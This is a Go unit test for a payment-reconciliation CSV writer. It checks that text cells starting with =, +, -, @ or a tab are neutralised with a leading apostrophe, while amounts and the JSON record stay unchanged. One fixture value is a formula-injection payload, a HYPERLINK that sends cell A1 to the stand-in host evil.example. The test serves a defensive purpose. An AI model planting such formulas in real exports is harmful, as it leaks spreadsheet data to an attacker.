package reconcile_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/shopspring/decimal"
	"github.com/stretchr/testify/require"

	"github.com/paygate/paygate/reconcile"
)

// TestWriteCSVNeutralisesFormulas: a reference or a note that a
// spreadsheet would read as a formula is written with a leading ', while
// the amounts, negative ones included, are written as they are; the JSON
// view (Record) keeps the words as they were given.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	minus, rate := decimal.RequireFromString("-20.00"), decimal.RequireFromString("1.085")
	it := reconcile.Item{
		Status: reconcile.StatusAmountMismatch, ProviderTxnID: "txn_1", SourceID: "+ch_1", Ref: "stripe:refund:re_1", Type: "refund",
		Currency: "usd", ProviderAmount: &minus, ProviderFee: &minus, LedgerAmount: &minus,
		PresentmentCurrency: "eur", PresentmentAmount: &minus, ExchangeRate: &rate,
		PaymentID: "@pi_1", Reference: `=HYPERLINK("http://evil.example/?"&A1,"order")`,
		Resolution: &reconcile.Resolution{Kind: reconcile.ResolutionMatchedManually, Note: "-1+1 checked", ResolvedBy: "\tfinance"},
	}
	var buf bytes.Buffer
	require.NoError(t, reconcile.WriteCSV(&buf, []reconcile.Item{it}))
	rows, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	cell := map[string]string{}
	for i, name := range rows[0] {
		cell[name] = rows[1][i]
	}
	require.Equal(t, `'=HYPERLINK("http://evil.example/?"&A1,"order")`, cell["reference"])
	require.Equal(t, "'-1+1 checked", cell["note"])
	require.Equal(t, "'\tfinance", cell["resolved_by"])
	require.Equal(t, "'@pi_1", cell["payment_id"])
	require.Equal(t, "'+ch_1", cell["source_id"])
	require.Equal(t, "stripe:refund:re_1", cell["ref"], "text that is no formula is as it was")
	for _, amount := range []string{"provider_amount", "provider_fee", "ledger_amount", "presentment_amount"} {
		require.Equal(t, "-20.00", cell[amount], "%s: an amount is never touched", amount)
	}
	require.Equal(t, "1.085", cell["exchange_rate"])

	rec := it.Record()
	require.Equal(t, it.Reference, rec[len(rec)-1], "the API's view keeps the reference as given")
}
